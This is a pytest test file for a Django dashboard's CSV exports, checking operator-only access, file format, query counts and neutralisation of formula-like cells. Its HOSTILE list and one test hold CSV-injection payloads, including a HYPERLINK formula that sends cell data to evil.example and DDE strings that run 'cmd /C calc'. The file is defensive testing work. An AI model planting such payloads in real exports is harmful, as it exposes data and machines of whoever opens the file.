"""cto/ops/exports.py: the CSV exports an operator downloads from the dashboard: who may, what
the files hold, that nothing in them runs as a formula, and a query count that does not grow
with the rows."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from cto.audits.models import Audit
from cto.audits.playbooks import audit_template_load_shipped
from cto.audits.selectors import audit_result
from cto.audits.services import AnswerInput, audit_answer_save, audit_open
from cto.checklists.models import Checklist, ChecklistItem
from cto.checklists.playbooks import checklist_template_load_shipped
from cto.checklists.services import current_template
from cto.engagements.models import Engagement
from cto.engagements.stages import Stage
from cto.intake import services as intake_services
from cto.ops import exports
from cto.users.models import Organization, User
from tests.engagements.factories import EngagementFactory
from tests.intake.test_services import finished_response
from tests.users.factories import MembershipFactory, OrganizationFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# --- The cell rules, without the database ------------------------------------------------------


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_cell_that_begins_like_a_formula_is_prefixed_with_a_quote(hostile: str) -> None:
    assert exports.neutralise(hostile) == "'" + hostile


@pytest.mark.parametrize(
    "harmless", ["Acme Robotics", "", "Zoë's Bäckerei", "a=b", "1-2", "'quoted", " =spaced"]
)
def test_a_cell_that_does_not_is_left_alone(harmless: str) -> None:
    assert exports.neutralise(harmless) == harmless


def test_numbers_we_compute_stay_numbers_and_other_values_read_plainly() -> None:
    assert exports.cell(-3) == -3
    assert exports.cell(42.5) == 42.5
    assert exports.cell(None) == ""
    assert exports.cell(True) == "yes"
    assert exports.cell(datetime.date(2026, 3, 1)) == "2026-03-01"
    noon = timezone.make_aware(datetime.datetime(2026, 3, 1, 12, 5))
    assert exports.cell(noon) == timezone.localtime(noon).strftime("%Y-%m-%d %H:%M")
    assert exports.cell("-3") == "'-3"  # text, whoever typed it, is neutralised


def test_the_file_opens_with_a_byte_order_mark_and_quotes_what_needs_it() -> None:
    lines = list(exports.csv_lines(["Name", "Note"], [["Zoë, Ltd", 'says "hi"\nthen =1']]))
    assert lines[0] == "\ufeffName,Note\r\n"
    assert lines[1] == '"Zoë, Ltd","says ""hi""\nthen =1"\r\n'


# --- Downloads ---------------------------------------------------------------------------------


def download(client: Client, key: str) -> tuple[object, list[list[str]]]:
    response = client.get(reverse("ops:export", args=[key]))
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return response, list(csv.reader(io.StringIO(body[1:])))


@pytest.fixture
def operator_client(client: Client, operator: User) -> Client:
    client.force_login(operator)
    return client


def submit_lead(company: str, name: str = "Zoë Müller") -> Engagement:
    contact = intake_services.Contact(
        name=name, email=f"{len(company)}@lead.example", company=company, role="CTO", consent=True
    )
    return intake_services.intake_submit(response=finished_response(), contact=contact)


@pytest.mark.django_db
@pytest.mark.parametrize("key", list(exports.EXPORTS))
def test_each_export_is_a_dated_utf8_csv_attachment_never_cached(
    operator_client: Client, key: str
) -> None:
    response, rows = download(operator_client, key)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="cto-{key}-{today}.csv"'
    assert "no-cache" in response["Cache-Control"]
    assert rows == [list(exports.EXPORTS[key].header)]


@pytest.mark.django_db
@pytest.mark.parametrize("who", ["anonymous", "member"])
def test_only_operators_download_an_export(
    client: Client, client_user: User, engagement: Engagement, who: str
) -> None:
    if who == "member":
        client.force_login(client_user)
    for key in exports.EXPORTS:
        response = client.get(reverse("ops:export", args=[key]))
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("admin:login"))


@pytest.mark.django_db
def test_the_dashboard_links_every_export(operator_client: Client) -> None:
    page = operator_client.get(reverse("ops:dashboard")).text
    assert '<h2 id="export-heading">Export</h2>' in page
    for key, export in exports.EXPORTS.items():
        assert f'href="{reverse("ops:export", args=[key])}" download>{export.title} (CSV)' in page


@pytest.mark.django_db
def test_an_unknown_export_answers_404(operator_client: Client) -> None:
    assert operator_client.get(reverse("ops:export", args=["users"])).status_code == 404
    assert operator_client.post(reverse("ops:export", args=["leads"])).status_code == 405


@pytest.mark.django_db
def test_a_prospects_formula_for_a_company_reaches_the_leads_file_as_text(
    operator_client: Client,
) -> None:
    for hostile in HOSTILE[:4]:
        submit_lead(hostile)
    submit_lead("Café Zoë")
    _, rows = download(operator_client, "leads")
    header, *leads = rows
    companies = {row[header.index("Company")] for row in leads}
    assert companies == {"'" + hostile for hostile in HOSTILE[:4]} | {"Café Zoë"}
    for row in leads:
        assert row[header.index("Contact name")] == "Zoë Müller"
        assert row[header.index("Recommended")] == "You need a fractional AI CTO"
        assert row[header.index("Stage")] == "Lead"
        assert not any(cell.startswith(exports.FORMULA_STARTS) for cell in row)


@pytest.mark.django_db
def test_the_engagements_file_has_a_row_per_engagement(
    operator_client: Client, engagement: Engagement, operator: User
) -> None:
    EngagementFactory(
        organization=OrganizationFactory(name="=cmd|' /C calc'!A0"),
        title="-Robots",
        stage=Stage.ACTIVE,
        start_date=datetime.date(2026, 2, 2),
    )
    _, rows = download(operator_client, "engagements")
    header, *found = rows
    by_title = {row[header.index("Title")]: row for row in found}
    assert set(by_title) == {engagement.title, "'-Robots"}
    robots = by_title["'-Robots"]
    assert robots[header.index("Organisation")] == "'=cmd|' /C calc'!A0"
    assert robots[header.index("Stage")] == "Active"
    assert robots[header.index("Start date")] == "2026-02-02"
    assert by_title[engagement.title][header.index("Lead operator")] == str(operator)
    assert by_title[engagement.title][header.index("From the intake")] == "no"


@pytest.mark.django_db
def test_audit_results_give_each_dimension_the_score_the_result_page_shows(
    operator_client: Client, engagement: Engagement, operator: User
) -> None:
    audit_template_load_shipped(publish=True)
    empty = audit_open(engagement=engagement, by=operator)
    Audit.objects.filter(pk=empty.pk).update(
        status=Audit.Status.LOCKED, locked_at=timezone.now(), locked_by=operator
    )
    audit = audit_open(engagement=engagement, by=operator)
    questions = list(audit.template_version.parsed().questions)
    for index, question in enumerate(questions[:9]):
        level = None if index == 4 else index % 5
        audit_answer_save(
            audit=audit,
            raw=AnswerInput(question=question, level=level),
            expected_version=None,
            by=operator,
        )
    _, rows = download(operator_client, "audit-results")
    header, *found = rows
    expected = audit_result(audit=audit).score
    mine = [row for row in found if row[header.index("Audit")] == str(audit.number)]
    assert [row[header.index("Dimension")] for row in mine] == [
        d.dimension.title for d in expected.dimensions
    ]
    for row, dimension in zip(mine, expected.dimensions, strict=True):
        score = dimension.score
        assert row[header.index("Dimension score")] == ("" if score is None else str(score))
        assert row[header.index("Questions answered")] == str(dimension.tally.answered)
        assert row[header.index("Not applicable")] == str(dimension.tally.not_applicable)
        assert row[header.index("Overall score")] == str(expected.overall)
    assert sum(int(row[header.index("Questions answered")]) for row in mine) == 8
    # The audit with no answer still has its rows, with nothing scored.
    unanswered = [row for row in found if row[header.index("Audit")] == str(empty.number)]
    assert len(unanswered) == len(expected.dimensions)
    assert {row[header.index("Dimension score")] for row in unanswered} == {""}
    assert {row[header.index("Status")] for row in unanswered} == {"Locked"}


@pytest.mark.django_db
def test_the_checklists_file_has_a_row_per_item_with_owner_due_status_and_evidence(
    operator_client: Client, organization: Organization, operator: User
) -> None:
    from cto.checklists.models import Evidence

    running = EngagementFactory(
        organization=organization, stage=Stage.ACTIVE, start_date=datetime.date(2020, 1, 6)
    )
    checklist_template_load_shipped(publish=True)
    checklist = Checklist.objects.create(engagement=running, template_version=current_template())
    owner = MembershipFactory(organization=organization, user__name="Zoë Owner").user
    late = ChecklistItem.objects.create(
        checklist=checklist,
        section="Access",
        title="@Grant repo access",
        done_when="Proof",
        owner_side="client",
        owner=owner,
        due_day=3,
        position=1,
    )
    for note in ("one", "two"):
        Evidence.objects.create(item=late, kind="note", note=note, added_by=operator)
    ChecklistItem.objects.create(
        checklist=checklist,
        section="Kick-off",
        title="Agree the goals",
        done_when="Notes",
        owner_side="practice",
        due_day=1,
        position=2,
        status="blocked",
        status_reason="Waiting on the board",
    )
    _, rows = download(operator_client, "checklists")
    header, *found = rows
    assert [row[header.index("Item")] for row in found] == [
        "'@Grant repo access",
        "Agree the goals",
    ]
    first, second = found
    assert first[header.index("Owner")] == "Zoë Owner"
    assert first[header.index("Side")] == "Client"
    assert first[header.index("Due")] == "2020-01-08"
    assert first[header.index("Status")] == "To do"
    assert first[header.index("Overdue")] == "yes"
    assert first[header.index("Evidence")] == "2"
    assert second[header.index("Owner")] == ""
    assert second[header.index("Status")] == "Blocked"
    assert second[header.index("Evidence")] == "0"
    assert second[header.index("Reason")] == "Waiting on the board"


def many_rows(count: int, organization: Organization, operator: User) -> None:
    """``count`` of everything each export lists."""
    audit_template_load_shipped(publish=True)
    checklist_template_load_shipped(publish=True)
    for index in range(count):
        submit_lead(f"Lead {index}", name=f"Person {index}")
        engagement = EngagementFactory(
            organization=organization, lead=operator, start_date=datetime.date(2026, 1, 5)
        )
        audit = audit_open(engagement=engagement, by=operator)
        question = next(iter(audit.template_version.parsed().questions))
        audit_answer_save(
            audit=audit,
            raw=AnswerInput(question=question, level=3),
            expected_version=None,
            by=operator,
        )
        checklist = Checklist.objects.create(
            engagement=engagement, template_version=current_template()
        )
        ChecklistItem.objects.create(
            checklist=checklist,
            section="S",
            title="T",
            done_when="D",
            owner_side="client",
            owner=operator,
        )


@pytest.mark.django_db
@pytest.mark.parametrize("count", [1, 6])
@pytest.mark.parametrize(
    ("key", "queries"),
    # user, then: the tree versions and the intakes; the engagements; the audit template
    # versions, the audits and their answers; the items with their evidence counted.
    [("leads", 3), ("engagements", 2), ("audit-results", 4), ("checklists", 2)],
)
def test_an_export_costs_the_same_queries_whatever_the_number_of_rows(
    operator_client: Client,
    organization: Organization,
    operator: User,
    django_assert_num_queries,
    count: int,
    key: str,
    queries: int,
) -> None:
    many_rows(count, organization, operator)
    with django_assert_num_queries(queries):
        response = operator_client.get(reverse("ops:export", args=[key]))
        rows = b"".join(response.streaming_content).decode("utf-8").splitlines()
    assert len(rows) > count
